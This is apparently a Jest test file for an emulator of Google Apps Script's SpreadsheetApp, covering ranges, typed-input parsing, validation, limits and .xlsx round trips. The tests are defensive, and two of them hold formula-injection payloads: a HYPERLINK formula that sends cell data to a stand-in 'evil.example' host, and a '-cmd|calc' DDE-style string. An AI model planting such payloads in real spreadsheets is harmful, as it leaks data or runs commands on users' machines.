import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vm from 'node:vm';
import { Execution, ExecutionKilled } from '../../emulator/runtime/execution';
import { hostRealm, realmOf } from '../../emulator/runtime/realm';
import { createWorld, MemoryWorkbookStore, makeServiceEnv } from '../../emulator/runtime/world';
import { createSpreadsheetApp } from '../../emulator/services/spreadsheet';
import { newSheet, type SheetData, type WorkbookData } from '../../emulator/workbook/model';
import { readWorkbookFile, writeWorkbookFile } from '../../emulator/workbook/xlsx';
import { testEnv } from '../helpers/env';
import { thrown } from '../helpers/thrown';

type App = ReturnType<typeof createSpreadsheetApp>;

/** A fresh store with one workbook "crm" (sheet "Contacts" holding `rows`) and an app over it. */
function setup(rows: SheetData['rows'] = [], opts: { timeZone?: string; limitMs?: number; killAtCall?: number } = {}) {
  const workbooks = new MemoryWorkbookStore();
  const book: WorkbookData = { id: 'crm', name: 'Holdfast CRM', sheets: [newSheet('Contacts', 0, rows)] };
  workbooks.add(book);
  const world = createWorld({ timeZone: opts.timeZone });
  const env = testEnv({ world, workbooks, limitMs: opts.limitMs ?? 1e9, killAtCall: opts.killAtCall });
  const app = createSpreadsheetApp(env);
  return { app, env, workbooks, book, sheet: book.sheets[0] };
}

function contacts(app: App) {
  return app.openById('crm').getSheetByName('Contacts')!;
}

function expectException(fn: () => unknown, message: string) {
  const e = thrown(fn);
  expect(e.name).toBe('Exception');
  expect(e.message).toBe(message);
}

describe('opening and creating spreadsheets', () => {
  test("openById of an unknown id throws Google's opaque error", () => {
    const { app } = setup();
    expectException(
      () => app.openById('no-such-id'),
      'Unexpected error while getting the method or property openById on object SpreadsheetApp.',
    );
  });

  test('create gives one 1000×26 sheet "Sheet1", reachable by id and by url', () => {
    const { app, workbooks } = setup();
    const ss = app.create('New CRM');
    const sheets = ss.getSheets();
    expect(sheets.map((s) => s.getName())).toEqual(['Sheet1']);
    expect([sheets[0].getMaxRows(), sheets[0].getMaxColumns()]).toEqual([1000, 26]);
    expect(sheets[0].getLastRow()).toBe(0);
    expect(ss.getUrl()).toBe(`https://docs.google.com/spreadsheets/d/${ss.getId()}/edit`);
    expect(app.openById(ss.getId()).getName()).toBe('New CRM');
    expect(app.openByUrl(`${ss.getUrl()}#gid=0`).getId()).toBe(ss.getId());
    expect(workbooks.takeTouched()).toEqual([ss.getId()]);
  });

  test('create(name, rows, columns) sizes the grid', () => {
    const { app } = setup();
    const sheet = app.create('Small', 10, 5).getSheets()[0];
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([10, 5]);
  });

  test('openByUrl refuses a url that is not a spreadsheet url', () => {
    const { app } = setup();
    expectException(() => app.openByUrl('https://example.com/crm'), 'Invalid argument: url');
  });

  test('getActiveSpreadsheet is null in a Gmail add-on', () => {
    const { app } = setup();
    expect(app.getActiveSpreadsheet()).toBeNull();
  });

  test('without the spreadsheets scope every entry point is refused', () => {
    const world = createWorld();
    const env = makeServiceEnv(
      world,
      new Execution({ kind: 'card', startMs: world.nowMs }),
      new MemoryWorkbookStore(),
      hostRealm(),
      [],
    );
    const app = createSpreadsheetApp(env);
    for (const call of [
      () => app.openById('crm'),
      () => app.create('x'),
      () => app.openByUrl('https://docs.google.com/spreadsheets/d/crm/edit'),
    ]) {
      const e = thrown(call);
      expect(e.name).toBe('Exception');
      expect(e.message).toContain('https://www.googleapis.com/auth/spreadsheets');
    }
  });
});

describe('sheets of a spreadsheet', () => {
  test('getSheetByName is null for a missing tab', () => {
    const { app } = setup();
    expect(app.openById('crm').getSheetByName('Deals')).toBeNull();
  });

  test('the spreadsheet gives the range of a sheet its A1 notation names, refused as the sheet refuses it', () => {
    const { app, env } = setup([
      ['Email', 'Name'],
      ['ana@acme.example', 'Ana'],
    ]);
    const ss = app.openById('crm');
    const before = env.exec.callCount;
    expect(ss.getRange("'Contacts'!A1:B").getValues().slice(0, 2)).toEqual([
      ['Email', 'Name'],
      ['ana@acme.example', 'Ana'],
    ]);
    expect(ss.getRange('Contacts!B2').getValue()).toBe('Ana');
    // One call for the range, no look-up of the sheet first.
    expect(env.exec.calls['Spreadsheet.getRange']).toBe(2);
    expect(env.exec.callCount - before).toBe(4);
    expectException(() => ss.getRange('Deals!A1'), 'Range not found');
    expectException(
      () => ss.getRange('Contacts!A1:A1001'),
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(thrown(() => ss.getRange('A1')).message).toMatch(/without a sheet name .* is not emulated/);
  });

  test("insertSheet refuses a duplicate name with Google's message, whatever the case", () => {
    const { app } = setup();
    const ss = app.openById('crm');
    expectException(
      () => ss.insertSheet('Contacts'),
      'A sheet with the name "Contacts" already exists. Please enter another name.',
    );
    expectException(
      () => ss.insertSheet('contacts'),
      'A sheet with the name "contacts" already exists. Please enter another name.',
    );
  });

  test('insertSheet(name, index) puts the sheet at a 0-based index; deleteSheet removes it', () => {
    const { app } = setup();
    const ss = app.openById('crm');
    const log = ss.insertSheet('Log', 0);
    expect(ss.getSheets().map((s) => s.getName())).toEqual(['Log', 'Contacts']);
    expect(ss.getSheetById(log.getSheetId())!.getName()).toBe('Log');
    ss.deleteSheet(log);
    expect(ss.getSheets().map((s) => s.getName())).toEqual(['Contacts']);
    expectException(() => ss.deleteSheet(ss.getSheets()[0]), "You can't remove all the sheets in a document.");
  });

  test('setName follows the same uniqueness rule', () => {
    const { app } = setup();
    const ss = app.openById('crm');
    const deals = ss.insertSheet('Deals');
    expectException(
      () => deals.setName('CONTACTS'),
      'A sheet with the name "CONTACTS" already exists. Please enter another name.',
    );
    deals.setName('Pipeline');
    expect(ss.getSheetByName('Pipeline')!.getSheetId()).toBe(deals.getSheetId());
  });
});

describe('ranges', () => {
  test('A1 notation: cells, blocks, whole columns and rows', () => {
    const { app } = setup();
    const sheet = contacts(app);
    const shape = (a1: string) => {
      const r = sheet.getRange(a1);
      return [r.getRow(), r.getColumn(), r.getNumRows(), r.getNumColumns()];
    };
    expect(shape('B3')).toEqual([3, 2, 1, 1]);
    expect(shape('b3:d4')).toEqual([3, 2, 2, 3]);
    expect(shape('$A$1:$B$2')).toEqual([1, 1, 2, 2]);
    expect(shape('C:D')).toEqual([1, 3, 1000, 2]);
    expect(shape('2:3')).toEqual([2, 1, 2, 26]);
    expect(shape('A2:B')).toEqual([2, 1, 999, 2]);
    expect(sheet.getRange('B3:D4').getA1Notation()).toBe('B3:D4');
    expect(sheet.getRange(5, 1).getA1Notation()).toBe('A5');
    expectException(() => sheet.getRange('not a range'), 'Range not found');
    expectException(
      () => sheet.getRange('A1001'),
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
  });

  test('row/column forms and their documented errors', () => {
    const { app } = setup();
    const sheet = contacts(app);
    const r = sheet.getRange(2, 3, 4, 5);
    expect([r.getRow(), r.getColumn(), r.getNumRows(), r.getNumColumns(), r.getLastRow(), r.getLastColumn()]).toEqual([
      2, 3, 4, 5, 5, 7,
    ]);
    expect(sheet.getRange(2, 3, 4).getNumColumns()).toBe(1);
    expect(r.getSheet().getName()).toBe('Contacts');
    expectException(() => sheet.getRange(0, 1), 'The starting row of the range is too small.');
    expectException(() => sheet.getRange(1, 0), 'The starting column of the range is too small.');
    expectException(() => sheet.getRange(1, 1, 0), 'The number of rows in the range must be at least 1.');
    expectException(() => sheet.getRange(1, 1, 1, 0), 'The number of columns in the range must be at least 1.');
    expectException(
      () => sheet.getRange(1000, 1, 2),
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expectException(
      () => sheet.getRange(1, 27),
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(thrown(() => sheet.getRange(1.5 as number, 1)).message).toBe(
      "The parameters (number,number) don't match the method signature for SpreadsheetApp.Sheet.getRange.",
    );
  });

  test('getLastRow/getLastColumn find the last cell with content in ragged rows', () => {
    const { app } = setup([['a'], ['b', '', 'c'], [], ['', '', '', ''], []]);
    const sheet = contacts(app);
    expect(sheet.getLastRow()).toBe(2);
    expect(sheet.getLastColumn()).toBe(3);
    expect(sheet.getDataRange().getA1Notation()).toBe('A1:C2');
    expect(sheet.getDataRange().getValues()).toEqual([
      ['a', '', ''],
      ['b', '', 'c'],
    ]);
  });

  test('an empty sheet has last row and column 0 and a data range of A1', () => {
    const { app } = setup();
    const sheet = contacts(app);
    expect([sheet.getLastRow(), sheet.getLastColumn()]).toEqual([0, 0]);
    expect(sheet.getDataRange().getA1Notation()).toBe('A1');
  });

  test("setValues refuses data of the wrong size with Google's messages", () => {
    const { app, sheet: model } = setup();
    const range = contacts(app).getRange(1, 1, 2, 3);
    expectException(
      () => range.setValues([[1, 2, 3]]),
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expectException(
      () =>
        range.setValues([
          [1, 2, 3],
          [4, 5],
        ]),
      'The number of columns in the data does not match the number of columns in the range. The data has 2 but the range has 3.',
    );
    expectException(
      () => range.setValues(['a', 'b'] as never),
      "The parameters (String[]) don't match the method signature for SpreadsheetApp.Range.setValues.",
    );
    expect(model.rows).toEqual([]);
  });

  test("values come back as written: numbers, booleans, Dates, and '' for empty cells", () => {
    const { app } = setup();
    const sheet = contacts(app);
    const when = new Date('2026-11-23T09:30:00Z');
    sheet.getRange('A1:D1').setValues([[42, false, when, null]]);
    const row = sheet.getRange('A1:E1').getValues()[0];
    expect(row).toEqual([42, false, when, '', '']);
    expect(row[2]).not.toBe(when);
    expect(sheet.getRange('C1').getValue()).toEqual(when);
    expect(sheet.getRange('A1:C1').getDisplayValues()).toEqual([['42', 'FALSE', '11/23/2026 9:30:00']]);
  });

  test('setValue fills every cell of the range; clearContent empties them', () => {
    const { app } = setup();
    const sheet = contacts(app);
    sheet.getRange('A1:B2').setValue('x');
    expect(sheet.getRange('A1:B2').getValues()).toEqual([
      ['x', 'x'],
      ['x', 'x'],
    ]);
    sheet.getRange('A1:B2').clearContent();
    expect(sheet.getLastRow()).toBe(0);
  });

  test('a RangeList writes one value into every cell of all its ranges in one queued call', () => {
    const { app, env } = setup([
      ['a', 'b', 'c'],
      ['d', 'e', 'f'],
      ['g', 'h', 'i'],
    ]);
    const sheet = contacts(app);
    const list = sheet.getRangeList(['A1', 'C2:C3']);
    expect(list.getRanges().map((r) => r.getA1Notation())).toEqual(['A1', 'C2:C3']);
    const calls = env.exec.callCount;
    const ms = env.exec.simulatedMs;
    list.setValue('x');
    // One call, charged as a queued write (a few ms); the read after it pays the flush of 3 cells.
    expect(env.exec.callCount - calls).toBe(1);
    expect(env.exec.simulatedMs - ms).toBeLessThan(10);
    expect(env.exec.pendingWriteCells).toBe(3);
    expect(sheet.getDataRange().getValues()).toEqual([
      ['x', 'b', 'c'],
      ['d', 'e', 'x'],
      ['g', 'h', 'x'],
    ]);
    sheet.getRangeList(['B1:B3']).clearContent();
    expect(sheet.getRange('B1:B3').getValues()).toEqual([[''], [''], ['']]);
  });

  test('getRangeList refuses what getRange refuses, and an empty list', () => {
    const { app } = setup([['a']]);
    const sheet = contacts(app);
    expectException(() => sheet.getRangeList(['A1', 'not a range']), 'Range not found');
    expect(thrown(() => sheet.getRangeList([])).name).toBe('Exception');
    expect(thrown(() => sheet.getRangeList('A1' as unknown as string[])).message).toMatch(/don't match the method/);
  });

  test('writes mark the workbook touched; reads do not', () => {
    const { app, workbooks } = setup([['a']]);
    const sheet = contacts(app);
    sheet.getDataRange().getValues();
    expect(workbooks.takeTouched()).toEqual([]);
    sheet.getRange('A2').setValue('b');
    expect(workbooks.takeTouched()).toEqual(['crm']);
  });

  test('a killed write leaves the sheet as it was', () => {
    // Calls: openById (0), getSheetByName (1), getRange (2), setValues (3).
    const { app, sheet: model } = setup([['before']], { killAtCall: 3 });
    const range = contacts(app).getRange('A1');
    expect(() => range.setValues([['after']])).toThrow(ExecutionKilled);
    expect(model.rows).toEqual([['before']]);
  });
});

describe('strings are parsed as typed input', () => {
  const cases: Array<[string, unknown]> = [
    ['plain text', 'plain text'],
    ['123', 123],
    ['-4.5', -4.5],
    ['1,000', 1000],
    ['007', 7],
    ['50%', 0.5],
    ['TRUE', true],
    ['false', false],
    ['2026-11-23', new Date('2026-11-23T00:00:00Z')],
    ['2026-11-23 14:05', new Date('2026-11-23T14:05:00Z')],
    ['11/23/2026', new Date('2026-11-23T00:00:00Z')],
    ['2026-11-23T09:00:00.000Z', '2026-11-23T09:00:00.000Z'],
    ['555-0100', '555-0100'],
    ["'=1+1", '=1+1'],
    ["'007", '007'],
    ['-', '-'],
  ];
  test.each(cases)('%j reads back as %p', (input, expected) => {
    const { app } = setup();
    const cell = contacts(app).getRange('A1');
    cell.setValue(input);
    expect(cell.getValue()).toEqual(expected);
    expect(cell.getFormulas()).toEqual([['']]);
  });

  test('a string starting with = is stored as a formula and reads as an error', () => {
    const { app } = setup();
    const sheet = contacts(app);
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    sheet.getRange('A1:B1').setValues([['Ann', evil]]);
    expect(sheet.getRange('A1:B1').getValues()).toEqual([['Ann', '#ERROR!']]);
    expect(sheet.getRange('A1:B1').getFormulas()).toEqual([['', evil]]);
    expect(sheet.getRange('B1').getDisplayValues()).toEqual([['#ERROR!']]);
  });

  test('+ or - followed by something that is not a number is a formula too', () => {
    const { app } = setup();
    const sheet = contacts(app);
    sheet.getRange('A1:B1').setValues([['+1 (555) 010-0100', '-cmd|calc']]);
    expect(sheet.getRange('A1:B1').getValues()).toEqual([['#ERROR!', '#ERROR!']]);
    expect(sheet.getRange('A1:B1').getFormulas()).toEqual([['=+1 (555) 010-0100', '=-cmd|calc']]);
  });

  test('overwriting a formula cell with a value removes the formula', () => {
    const { app } = setup();
    const cell = contacts(app).getRange('A1');
    cell.setValue('=1+1');
    cell.setValue("'=1+1");
    expect(cell.getValue()).toBe('=1+1');
    expect(cell.getFormulas()).toEqual([['']]);
  });

  test('cells formatted as plain text (@) keep strings verbatim', () => {
    const { app } = setup();
    const sheet = contacts(app);
    sheet.getRange('A:A').setNumberFormat('@');
    sheet.getRange('A1:B3').setValues([
      ['=1+1', '=1+1'],
      ['007', '007'],
      ['TRUE', 'TRUE'],
    ]);
    expect(sheet.getRange('A1:B3').getValues()).toEqual([
      ['=1+1', '#ERROR!'],
      ['007', 7],
      ['TRUE', true],
    ]);
    expect(sheet.getRange('A1').getFormulas()).toEqual([['']]);
  });

  test('dates are midnight in the spreadsheet time zone', () => {
    const { app } = setup([], { timeZone: 'America/New_York' });
    const cell = contacts(app).getRange('A1');
    cell.setValue('2026-11-23');
    expect(cell.getValue()).toEqual(new Date('2026-11-23T05:00:00Z'));
    expect(cell.getDisplayValues()).toEqual([['11/23/2026']]);
  });

  test('a string over 50,000 characters is refused; 50,000 is accepted', () => {
    const { app } = setup();
    const cell = contacts(app).getRange('A1');
    cell.setValue('x'.repeat(50_000));
    expect((cell.getValue() as string).length).toBe(50_000);
    expectException(
      () => cell.setValue('y'.repeat(50_001)),
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
    expect((cell.getValue() as string)[0]).toBe('x');
  });
});

describe('appendRow', () => {
  test('writes after the last row with content, parsing values as typed input', () => {
    const { app } = setup([
      ['Name', 'Email'],
      ['Ann', 'ann@example.com'],
    ]);
    const sheet = contacts(app);
    sheet.appendRow(['=IMPORTXML("x")', "'=safe"]);
    expect(sheet.getLastRow()).toBe(3);
    expect(sheet.getRange('A3:B3').getValues()).toEqual([['#ERROR!', '=safe']]);
    expect(sheet.getRange('A3').getFormulas()).toEqual([['=IMPORTXML("x")']]);
  });

  test('grows a full grid by rows and columns', () => {
    const { app } = setup();
    const sheet = app.create('Tiny', 2, 2).getSheets()[0];
    sheet.appendRow(['a', 'b']);
    sheet.appendRow(['c', 'd']);
    sheet.appendRow(['e', 'f', 'g']);
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([3, 3]);
    expect(sheet.getDataRange().getValues()).toEqual([
      ['a', 'b', ''],
      ['c', 'd', ''],
      ['e', 'f', 'g'],
    ]);
  });
});

describe('rows and freezing', () => {
  test('insertRowsAfter and deleteRows move data and formulas', () => {
    const { app } = setup([
      ['h', ''],
      ['a', ''],
      ['b', ''],
    ]); // two columns wide: the test writes to B
    const sheet = contacts(app);
    sheet.getRange('B3').setValue('=A3');
    sheet.insertRowsAfter(1, 2);
    expect(sheet.getMaxRows()).toBe(1002);
    expect(sheet.getRange('A1:A5').getValues()).toEqual([['h'], [''], [''], ['a'], ['b']]);
    expect(sheet.getRange('B5').getFormulas()).toEqual([['=A3']]);
    sheet.deleteRows(2, 3);
    expect(sheet.getRange('A1:B2').getValues()).toEqual([
      ['h', ''],
      ['b', '#ERROR!'],
    ]);
    sheet.deleteRow(1);
    expect(sheet.getMaxRows()).toBe(998);
    expect(sheet.getLastRow()).toBe(1);
  });

  test('row deletions outside the grid or of every non-frozen row are refused', () => {
    const { app } = setup();
    const sheet = app.create('Tiny', 3, 2).getSheets()[0];
    sheet.setFrozenRows(1);
    expect(sheet.getFrozenRows()).toBe(1);
    expectException(() => sheet.deleteRows(3, 2), 'Those rows are out of bounds.');
    expectException(() => sheet.deleteRows(2, 2), 'Sorry, it is not possible to delete all non-frozen rows.');
    expectException(() => sheet.setFrozenRows(3), "You can't freeze all visible rows on the sheet.");
  });

  test('clear empties the sheet and its formatting', () => {
    const { app, sheet: model } = setup([['Name'], ['Ann']]);
    const sheet = contacts(app);
    sheet.getRange('A1').setFontWeight('bold');
    expect(model.boldRows).toEqual([1]);
    sheet.clear();
    expect(sheet.getLastRow()).toBe(0);
    expect(model.boldRows).toEqual([]);
  });
});

describe('TextFinder', () => {
  const rows = [
    ['Name', 'Email'],
    ['Ann Lee', 'ann@acme.com'],
    ['ann', 'ANN@ACME.COM'],
    ['Bob', 'bob@acme.com'],
  ];

  test('defaults: case-insensitive, partial match, row by row', () => {
    const { app } = setup(rows);
    const found = contacts(app)
      .createTextFinder('ann')
      .findAll()
      .map((r) => r.getA1Notation());
    expect(found).toEqual(['A2', 'B2', 'A3', 'B3']);
  });

  test('matchEntireCell and matchCase narrow the search', () => {
    const { app } = setup(rows);
    const sheet = contacts(app);
    expect(
      sheet
        .createTextFinder('ann')
        .matchEntireCell(true)
        .findAll()
        .map((r) => r.getA1Notation()),
    ).toEqual(['A3']);
    expect(
      sheet
        .createTextFinder('ANN@ACME.COM')
        .matchCase(true)
        .findAll()
        .map((r) => r.getA1Notation()),
    ).toEqual(['B3']);
    expect(
      sheet
        .createTextFinder('ann@acme.com')
        .matchEntireCell(true)
        .findAll()
        .map((r) => r.getA1Notation()),
    ).toEqual(['B2', 'B3']);
    expect(
      sheet
        .createTextFinder('^b.b@')
        .useRegularExpression(true)
        .findAll()
        .map((r) => r.getA1Notation()),
    ).toEqual(['B4']);
  });

  test('findNext walks the matches; null when there is none', () => {
    const { app } = setup(rows);
    const sheet = contacts(app);
    const finder = sheet.createTextFinder('acme.com');
    expect(finder.findNext()!.getA1Notation()).toBe('B2');
    expect(finder.findNext()!.getA1Notation()).toBe('B3');
    expect(finder.findNext()!.getA1Notation()).toBe('B4');
    expect(sheet.createTextFinder('carol').findNext()).toBeNull();
  });

  test('a range finder searches only its range, including displayed numbers', () => {
    const { app } = setup([
      ['id', 'n'],
      ['x', 1234],
      ['y', 1234],
    ]);
    const sheet = contacts(app);
    expect(
      sheet
        .getRange('B3:B3')
        .createTextFinder('1234')
        .findAll()
        .map((r) => r.getA1Notation()),
    ).toEqual(['B3']);
  });
});

describe('data validation', () => {
  test('a strict list rule refuses a script write of another value, and writes nothing', () => {
    const { app } = setup([['Stage'], ['Lead']]);
    const sheet = contacts(app);
    const rule = app.newDataValidation().requireValueInList(['Lead', 'Won', 'Lost']).setAllowInvalid(false).build();
    expect(rule.getCriteriaType()).toBe(app.DataValidationCriteria.VALUE_IN_LIST);
    expect(rule.getCriteriaValues()).toEqual([['Lead', 'Won', 'Lost'], true]);
    sheet.getRange('A2:A1000').setDataValidation(rule);
    expectException(
      () => sheet.getRange('A2:A3').setValues([['Won'], ['Maybe']]),
      'The data you entered in cell A3 violates the data validation rules set on this cell.',
    );
    expect(sheet.getRange('A2:A3').getValues()).toEqual([['Lead'], ['']]);
    sheet.getRange('A2:A3').setValues([['Won'], ['']]);
    expect(sheet.getRange('A2').getValue()).toBe('Won');
  });

  test('a rule that allows invalid input accepts anything; null removes a rule', () => {
    const { app } = setup();
    const sheet = contacts(app);
    sheet.getRange('A1:A10').setDataValidation(app.newDataValidation().requireValueInList(['a']).build());
    sheet.getRange('A1').setValue('zzz');
    sheet
      .getRange('B1:B10')
      .setDataValidation(app.newDataValidation().requireValueInList(['a']).setAllowInvalid(false).build());
    sheet.getRange('B5').setDataValidation(null);
    sheet.getRange('B5').setValue('zzz');
    expectException(
      () => sheet.getRange('B6').setValue('zzz'),
      'The data you entered in cell B6 violates the data validation rules set on this cell.',
    );
  });

  test('a list of more than 500 items is refused', () => {
    const { app } = setup();
    const items = Array.from({ length: 501 }, (_, i) => `v${i}`);
    const rule = app.newDataValidation().requireValueInList(items).build();
    expectException(
      () => contacts(app).getRange('A1').setDataValidation(rule),
      'The data validation rule has more items than the limit of 500. Use the "List from a range" criteria instead.',
    );
  });
});

describe('charging', () => {
  test('every method is one charged service call', () => {
    const { app, env } = setup([
      ['Name', 'Email'],
      ['Ann', 'ann@example.com'],
    ]);
    const ss = app.openById('crm');
    const sheet = ss.getSheets()[0];
    const range = sheet.getRange('A1:B2');
    const finder = sheet.createTextFinder('ann');
    const builder = app.newDataValidation();
    const rule = builder.requireValueInList(['a']).build();
    const calls: Array<() => unknown> = [
      () => app.flush(),
      () => app.getActiveSpreadsheet(),
      () => app.newDataValidation(),
      () => ss.getId(),
      () => ss.getUrl(),
      () => ss.getName(),
      () => ss.getSheets(),
      () => ss.getSheetByName('x'),
      () => ss.getSheetById(0),
      () => sheet.getName(),
      () => sheet.getSheetId(),
      () => sheet.getParent(),
      () => sheet.getLastRow(),
      () => sheet.getLastColumn(),
      () => sheet.getMaxRows(),
      () => sheet.getMaxColumns(),
      () => sheet.getRange(1, 1),
      () => sheet.getDataRange(),
      () => sheet.getFrozenRows(),
      () => sheet.setFrozenRows(1),
      () => sheet.autoResizeColumns(1, 2),
      () => sheet.createTextFinder('a'),
      () => sheet.appendRow(['Bob']),
      () => sheet.insertRowsAfter(1, 1),
      () => sheet.deleteRow(2),
      () => sheet.deleteRows(3, 1),
      () => range.getValues(),
      () => range.getDisplayValues(),
      () => range.getValue(),
      () => range.getFormulas(),
      () =>
        range.setValues([
          ['Name', 'Email'],
          ['Ann', 'ann@example.com'],
        ]),
      () => range.setValue('x'),
      () => range.clearContent(),
      () => range.setFontWeight('bold'),
      () => range.setNumberFormat('@'),
      () => range.setDataValidation(null),
      () => range.createTextFinder('a'),
      () => range.getRow(),
      () => range.getColumn(),
      () => range.getNumRows(),
      () => range.getNumColumns(),
      () => range.getLastRow(),
      () => range.getLastColumn(),
      () => range.getA1Notation(),
      () => range.getSheet(),
      () => finder.matchCase(false),
      () => finder.matchEntireCell(false),
      () => finder.useRegularExpression(false),
      () => finder.findNext(),
      () => finder.findAll(),
      () => builder.setAllowInvalid(false),
      () => builder.setHelpText('pick one'),
      () => rule.getCriteriaType(),
      () => rule.getCriteriaValues(),
      () => rule.getAllowInvalid(),
      () => rule.getHelpText(),
      () => rule.copy(),
    ];
    for (const call of calls) {
      const before = env.exec.callCount;
      call();
      expect([call.toString(), env.exec.callCount - before]).toEqual([call.toString(), 1]);
    }
  });

  test('a new rule allows invalid input and has no help text unless told (documented defaults)', () => {
    const { app } = setup();
    const rule = app.newDataValidation().requireValueInList(['a', 'b'], false).build();
    expect([rule.getAllowInvalid(), rule.getHelpText(), rule.getCriteriaValues()]).toEqual([
      true,
      null,
      [['a', 'b'], false],
    ]);
    const strict = rule.copy().setAllowInvalid(false).setHelpText('a or b').build();
    expect([strict.getAllowInvalid(), strict.getHelpText()]).toEqual([false, 'a or b']);
  });
});

describe('documented limits', () => {
  const CELLS = 'This action would increase the number of cells in the workbook above the limit of 10000000 cells.';

  test("10,000,000 cells a spreadsheet, counted over every sheet's grid", () => {
    const { app } = setup();
    const ss = app.create('Full', 10_000, 1_000);
    const sheet = ss.getSheets()[0];
    expectException(() => ss.insertSheet('More'), CELLS);
    expectException(() => sheet.insertRowsAfter(10_000, 1), CELLS);
    sheet.getRange(10_000, 1).setValue('last');
    expectException(() => sheet.appendRow(['over']), CELLS);
    expect(sheet.getMaxRows()).toBe(10_000);
    expectException(() => app.create('Too big', 10_001, 1_000), CELLS);
  });

  test('18,278 columns a sheet', () => {
    const { app } = setup();
    expect(app.create('Wide', 1, 18_278).getSheets()[0].getMaxColumns()).toBe(18_278);
    expect(() => app.create('Wider', 1, 18_279)).toThrow(/18278/);
  });
});

describe('the sandbox realm', () => {
  test("values and errors are the realm's own", () => {
    const context = vm.createContext({});
    const workbooks = new MemoryWorkbookStore();
    workbooks.add({
      id: 'crm',
      name: 'CRM',
      sheets: [newSheet('Contacts', 0, [['Ann', new Date('2026-01-02T03:04:05Z'), 3]])],
    });
    const world = createWorld();
    const env = makeServiceEnv(
      world,
      new Execution({ kind: 'card', startMs: world.nowMs }),
      workbooks,
      realmOf(context),
    );
    context.SpreadsheetApp = createSpreadsheetApp(env);
    const result = vm.runInContext(
      `
      const sheet = SpreadsheetApp.openById('crm').getSheetByName('Contacts');
      const values = sheet.getDataRange().getValues();
      let error;
      try { SpreadsheetApp.openById('nope'); } catch (e) { error = e; }
      ({
        array: Array.isArray(values) && values instanceof Array && values[0] instanceof Array,
        date: values[0][1] instanceof Date && values[0][1].getTime() === Date.UTC(2026, 0, 2, 3, 4, 5),
        one: sheet.getRange('B1').getValue() instanceof Date,
        sheets: SpreadsheetApp.openById('crm').getSheets() instanceof Array,
        error: error instanceof Error && error.name === 'Exception',
      })`,
      context,
    );
    expect({ ...result }).toEqual({ array: true, date: true, one: true, sheets: true, error: true });
  });
});

describe('.xlsx round trip', () => {
  test('values written through the service survive a save and a read', () => {
    const { app, book } = setup();
    const sheet = contacts(app);
    const rows = [
      ['Name', 'Since', 'Score', 'Active'],
      ['Ann', new Date('2025-03-04T00:00:00Z'), 12.5, true],
      ['Bob', new Date('2026-11-23T09:30:15Z'), -3, false],
    ];
    sheet.getRange(1, 1, 3, 4).setValues(rows);
    sheet.getRange('E2').setValue('=A2');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'holdfast-ss-'));
    try {
      const file = path.join(dir, 'crm.xlsx');
      writeWorkbookFile(book, file);
      const workbooks = new MemoryWorkbookStore();
      workbooks.add(readWorkbookFile(file, 'crm'));
      const again = createSpreadsheetApp(testEnv({ workbooks })).openById('crm').getSheetByName('Contacts')!;
      expect(again.getRange('A1:D3').getValues()).toEqual(rows);
      expect(again.getRange('E2').getValue()).toBe('#ERROR!');
      expect(again.getRange('E2').getFormulas()).toEqual([['=A2']]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('large sheets', () => {
  test('one getValues returns all 520,000 × 8 cells, the last row intact', () => {
    const rows: SheetData['rows'] = [];
    const base = Date.UTC(2026, 0, 1);
    for (let i = 0; i < 520_000; i++)
      rows.push([`c${i}`, `c${i}@example.com`, i, i % 2 === 0, new Date(base + i * 60_000), 'Lead', 'note', '']);
    rows[0][7] = 'x';
    const { app } = setup(rows, { limitMs: 1e12 });
    const range = contacts(app).getDataRange();
    const values = range.getValues();
    expect(values.length).toBe(520_000);
    expect(values[519_999]).toEqual([
      `c519999`,
      'c519999@example.com',
      519_999,
      false,
      new Date(base + 519_999 * 60_000),
      'Lead',
      'note',
      '',
    ]);
  });

  test('a TextFinder over 50,000 rows finds the one matching cell', () => {
    const rows: SheetData['rows'] = [];
    for (let i = 0; i < 50_000; i++)
      rows.push([`c${i}`, `c${i}@example.com`, i, 'Lead', new Date(Date.UTC(2026, 0, 1) + i * 1000)]);
    const { app } = setup(rows);
    const hits = contacts(app).createTextFinder('c49999@example.com').matchEntireCell(true).findAll();
    expect(hits.map((r) => r.getA1Notation())).toEqual(['B50000']);
  });
});
